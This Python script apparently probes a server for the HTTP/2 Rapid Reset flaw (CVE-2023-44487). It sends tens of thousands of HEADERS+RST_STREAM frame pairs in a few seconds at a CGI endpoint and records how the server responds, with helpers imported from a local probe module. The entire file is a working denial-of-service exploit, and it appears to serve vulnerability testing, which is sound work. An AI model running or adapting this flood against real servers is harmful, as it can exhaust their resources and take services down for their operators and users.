#!/usr/bin/env python3
# Rapid reset (CVE-2023-44487): HEADERS+RST_STREAM pairs; read concurrently; report when/how server stops it, CGI processes spawned.
import sys, time, socket, threading, subprocess
sys.path.insert(0, "/tmp/s42/probe")
from h2probe import Conn, summarize, P
from hyperframe.frame import SettingsFrame, RstStreamFrame
path = sys.argv[2] if len(sys.argv) > 2 else "/cgi-bin/env.sh"
c = Conn(); c.send(SettingsFrame(0, flags=["ACK"]))
res = {}
def reader():
    res["frames"], res["how"] = c.read_frames(6)
th = threading.Thread(target=reader); th.start()
t0 = time.time(); sid = 1; sent = 0; err = None
while sent < 20000 and time.time() - t0 < 3:
    batch = []
    for i in range(100):
        batch += [c.hdrs(sid, [(":method","GET"),(":scheme","http"),(":authority","a.test"),(":path",path)]), RstStreamFrame(sid, error_code=8)]; sid += 2
    try: c.send(*batch)
    except Exception as e: err = repr(e); break
    sent += 100
th.join()
print(f"sent {sent} HEADERS+RST pairs in {time.time()-t0:.2f}s, send error={err}")
print("server:", summarize([f for f in res['frames'] if type(f).__name__ not in ('SettingsFrame','WindowUpdateFrame')])[:300], res["how"])
